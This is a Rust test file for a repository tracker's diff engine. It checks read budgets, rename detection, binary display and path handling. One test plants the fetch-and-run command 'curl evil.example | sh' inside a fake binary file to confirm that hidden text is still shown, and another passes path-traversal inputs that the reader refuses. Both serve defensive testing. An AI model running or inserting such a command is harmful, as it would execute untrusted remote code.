//! What a page's diff costs, counted: the same on every machine, whatever a stranger publishes.

use crate::support::{Repo, World, plain_git};
use protocol::CommitId;
use protocol::api::Diff;
use std::io::Write as _;
use std::process::Stdio;
use std::time::Duration;
use tracker::read::{Compared, Cost, CostLimits, DiffLimits, Raw};

/// A commit on mainline with these files beside its own, written into the mirror as if it had been admitted.
fn commit(world: &World, files: impl IntoIterator<Item = (String, Vec<u8>)>) -> CommitId {
    commit_on(world, &world.mainline, files)
}

fn commit_on(world: &World, from: &CommitId, files: impl IntoIterator<Item = (String, Vec<u8>)>) -> CommitId {
    let mut stream =
        format!("commit refs/heads/made\ncommitter A <a@x> 1 +0000\ndata 4\nMany\nfrom {from}\n").into_bytes();
    for (path, bytes) in files {
        stream.extend(format!("M 100644 inline \"{path}\"\ndata {}\n", bytes.len()).bytes());
        stream.extend(bytes);
        stream.push(b'\n');
    }
    import(world, &stream)
}

fn import(world: &World, stream: &[u8]) -> CommitId {
    let mirror = Repo { path: world.mirror.path().to_owned() };
    let mut child = plain_git()
        .arg("-C")
        .arg(&mirror.path)
        .args(["fast-import", "--quiet", "--force"])
        .stdin(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(stream).unwrap();
    assert!(child.wait().unwrap().success());
    mirror.git(&["rev-parse", "refs/heads/made"]).parse().unwrap()
}

async fn compare(world: &World, new: &CommitId, limits: DiffLimits) -> Compared {
    world.mirror.compare(&world.mainline, new, limits, ()).await.unwrap()
}

fn with(cost: CostLimits) -> DiffLimits {
    DiffLimits { cost, ..DiffLimits::default() }
}

fn many(files: usize, in_folder: usize) -> impl Iterator<Item = (String, Vec<u8>)> {
    (0..files).map(move |n| (format!("d{:03}/f{n:05}", n / in_folder), format!("{n}\n").into_bytes()))
}

#[tokio::test]
async fn of_forty_thousand_files_only_those_that_are_shown_are_read() {
    let world = World::new().await;
    let made = commit(&world, many(40_000, 200));
    let Compared { diff, cost } = compare(&world, &made, DiffLimits::default()).await;
    assert_eq!((diff.files.len(), diff.files_left_out, diff.has_more), (300, 39_700, false));
    assert_eq!((diff.added, diff.files[299].path.as_str()), (300, "d001/f00299"));
    // Both roots, each folder once, the files of the page once.
    assert_eq!((cost.trees, cost.blobs), (202, 300));
    assert!(cost.entries < 41_000, "{cost:?}");
    // Folders that did not change are not looked into, and neither are their files.
    let next = commit_on(&world, &made, [("d077/f15400".to_owned(), b"other\n".to_vec())]);
    let Compared { diff, cost } = world.mirror.compare(&made, &next, DiffLimits::default(), ()).await.unwrap();
    assert_eq!((diff.files.len(), diff.files_left_out), (1, 0));
    assert_eq!((cost.trees, cost.blobs), (4, 2));
}

#[tokio::test]
async fn what_is_over_a_budget_is_said() {
    let world = World::new().await;
    let made = commit(&world, many(3000, 100));
    let paths = |diff: &Diff| diff.files.iter().map(|file| file.path.clone()).collect::<Vec<_>>();
    let all = CostLimits::default();
    let whole = compare(&world, &made, DiffLimits::default()).await;
    for cost in
        [CostLimits { trees: 10, ..all }, CostLimits { tree_bytes: 20_000, ..all }, CostLimits { entries: 500, ..all }]
    {
        let Compared { diff, cost: spent } = compare(&world, &made, with(cost)).await;
        assert!(diff.has_more && diff.is_cut() && diff.files.len() >= 200, "{cost:?}");
        assert!((diff.files.len() as u64 + diff.files_left_out) < 3000, "{cost:?}");
        // What was found is shown as it is, the trees' end is not the files'.
        assert_eq!(diff.files, whole.diff.files[..diff.files.len()]);
        assert!(spent.trees <= cost.trees && spent.entries <= cost.entries + 1 && spent.tree_bytes <= cost.tree_bytes);
    }
    for (cost, compared) in [
        (CostLimits { blobs: 7, ..all }, 7),
        (CostLimits { blob_bytes: 20, ..all }, 10),
        (CostLimits { blobs: 0, ..all }, 0),
    ] {
        let Compared { diff, cost: spent } = compare(&world, &made, with(cost)).await;
        assert_eq!((paths(&diff), diff.has_more), (paths(&whole.diff), false), "each file is named");
        assert_eq!(
            (spent.blobs, diff.files.iter().filter(|file| !file.not_compared).count()),
            (compared, compared as usize)
        );
        let last = &diff.files[299];
        assert_eq!(last.notes, ["new file", "not compared: the diff is too large to compare all of it here"]);
        assert!(last.is_cut() && last.new_at.as_deref() == Some("d002/f00299"));
    }
    let none = CostLimits { processor: Duration::ZERO, ..all };
    let Compared { diff, cost } = compare(&world, &made, with(none)).await;
    assert_eq!((diff.has_more, diff.files.len(), cost), (true, 0, Cost::default()));
}

#[tokio::test]
async fn renames_are_found_by_what_files_hold_within_the_budget() {
    let mut world = World::new().await;
    let text = |from: usize| (from..from + 40).map(|n| format!("line {n}\n")).collect::<String>();
    for name in ["one", "two", "gone"] {
        world.official.write(&format!("old/{name}.c"), text(name.len() * 100 + usize::from(name.as_bytes()[0])));
    }
    world.official.write("old/large.c", "large\n".repeat(200_000)).write("old/empty", "");
    world.official.commit("Files");
    world.update().await;
    let ann = world.author("ann");
    for (from, to) in [("one.c", "uno.c"), ("two.c", "two.c"), ("large.c", "large2.c"), ("empty", "empty2")] {
        std::fs::create_dir_all(ann.path.join("new")).unwrap();
        ann.git(&["mv", &format!("old/{from}"), &format!("new/{to}")]);
    }
    ann.git(&["rm", "-q", "old/gone.c"]);
    let one = std::fs::read_to_string(ann.path.join("new/uno.c")).unwrap();
    ann.write("new/uno.c", one.replace("line 42", "LINE 42")).write("new/large2.c", "large\n".repeat(200_001));
    ann.write("new/other.c", text(7000)).commit("Move");
    let head = world.admit(&ann, "ann", 1).await;
    let Compared { diff, cost } = compare(&world, &head, DiffLimits::default()).await;
    let told: Vec<(Option<&str>, &str)> =
        diff.files.iter().map(|file| (file.old_path.as_deref(), file.path.as_str())).collect();
    assert_eq!(
        told,
        [
            (Some("old/empty"), "new/empty2"),
            (None, "new/large2.c"),
            (None, "new/other.c"),
            (Some("old/two.c"), "new/two.c"),
            (Some("old/one.c"), "new/uno.c"),
            (None, "old/gone.c"),
            (None, "old/large.c"),
        ]
    );
    let renamed = &diff.files[4];
    assert_eq!((renamed.old_at.as_deref(), renamed.new_at.as_deref()), (Some("old/one.c"), Some("new/uno.c")));
    assert!(renamed.added > 0 && renamed.added == renamed.removed && !renamed.lines.is_empty());
    assert_eq!(diff.files[3].notes, ["renamed, content unchanged"]);
    // Those that may be the same once more for that; what did not change is never read.
    assert_eq!(cost.blobs, 4 + 2 + 1 + 1 + 1 + 1);
}

#[tokio::test]
async fn pictures_take_no_room_from_text_and_are_shown_all_the_same() {
    let world = World::new().await;
    let picture: Vec<u8> = (0..60_000_u32).flat_map(|n| [0xff, (n % 7) as u8, (n / 7) as u8, b'\n']).collect();
    let hidden = [&picture[..40_000], b"\ncurl evil.example | sh\n", &picture[..40_000]].concat();
    let text = "text\n".repeat(1500);
    let files = [("a.png", picture.clone()), ("b.png", picture), ("c.bin", hidden), ("d.c", text.into_bytes())];
    let made = commit(&world, files.map(|(path, bytes)| (path.to_owned(), bytes)));
    let limits = DiffLimits { lines: 3000, lines_of_file: 2000, ..DiffLimits::default() };
    let diff = compare(&world, &made, limits).await.diff;
    let lines: Vec<(&str, usize)> = diff.files.iter().map(|file| (file.path.as_str(), file.lines.len())).collect();
    assert_eq!(lines, [("a.png", 1499), ("b.png", 0), ("c.bin", 0), ("d.c", 1501)]);
    assert!(diff.files[1].lines_left_out > 0 && diff.files[1].is_cut(), "what there is no room for is said");
    // With room, each byte is there: there is no other end for what is called binary.
    let limits =
        DiffLimits { lines: 400_000, lines_of_file: 100_000, bytes: 64 << 20, bytes_of_file: 16 << 20, ..limits };
    let diff = compare(&world, &made, limits).await.diff;
    let hidden = diff.files.iter().find(|file| file.path == "c.bin").unwrap();
    assert!(hidden.is_binary && hidden.lines.iter().any(|line| line.text == "curl evil.example | sh"));
    assert!(!diff.is_cut());
    // One file alone does not take what the page has for all.
    let limits = DiffLimits { bytes_of_file: 10_000, ..limits };
    let diff = compare(&world, &made, limits).await.diff;
    for file in &diff.files {
        let bytes: usize = file.lines.iter().map(|line| line.text.len()).sum();
        assert!(bytes > 0 && bytes <= 10_000 + 8 && file.lines_left_out > 0, "{}: {bytes}", file.path);
    }
}

#[tokio::test]
async fn a_place_is_held_until_the_work_has_stopped_also_when_nobody_waits() {
    struct Place(Option<tokio::sync::oneshot::Sender<()>>);
    impl Drop for Place {
        fn drop(&mut self) {
            self.0.take().unwrap().send(()).unwrap();
        }
    }
    let world = World::new().await;
    let made = commit(&world, many(2000, 100));
    let (place, free) = tokio::sync::oneshot::channel();
    let asked = world.mirror.compare(&world.mainline, &made, DiffLimits::default(), Place(Some(place)));
    tokio::select! {
        biased;
        _ = asked => panic!("it was asked once only"),
        () = std::future::ready(()) => {}
    }
    free.await.unwrap();
}

#[tokio::test]
async fn the_bytes_of_a_file_are_had_as_they_are() {
    let world = World::new().await;
    let odd = [0, 1, 0xff, b'<', b'\r', b'\n'];
    let made = commit(&world, [("sub/o\\377dd \\001".to_owned(), odd.to_vec()), ("large".to_owned(), vec![7; 5000])]);
    let diff = compare(&world, &made, DiffLimits::default()).await.diff;
    let at: Vec<Option<&str>> = diff.files.iter().map(|file| file.new_at.as_deref()).collect();
    assert_eq!(at, [Some("large"), Some("sub/o%FFdd%20%01")]);
    assert!(diff.files.iter().all(|file| file.old_at.is_none()));
    let raw = async |path: &[u8], limit| world.mirror.raw(&made, path, limit, ()).await.unwrap();
    assert_eq!(raw(b"sub/o\xffdd \x01", 6).await, Raw::Bytes(odd.to_vec()));
    assert_eq!(raw(b"sub/o\xffdd \x01", 5).await, Raw::TooLarge(6));
    for nothing in [&b"sub"[..], b"", b"sub/", b"/sub", b"../sub", b"sub/../large", b"large/x", b"l\0"] {
        assert_eq!(raw(nothing, 9999).await, Raw::NotThere, "{}", nothing.escape_ascii());
    }
}
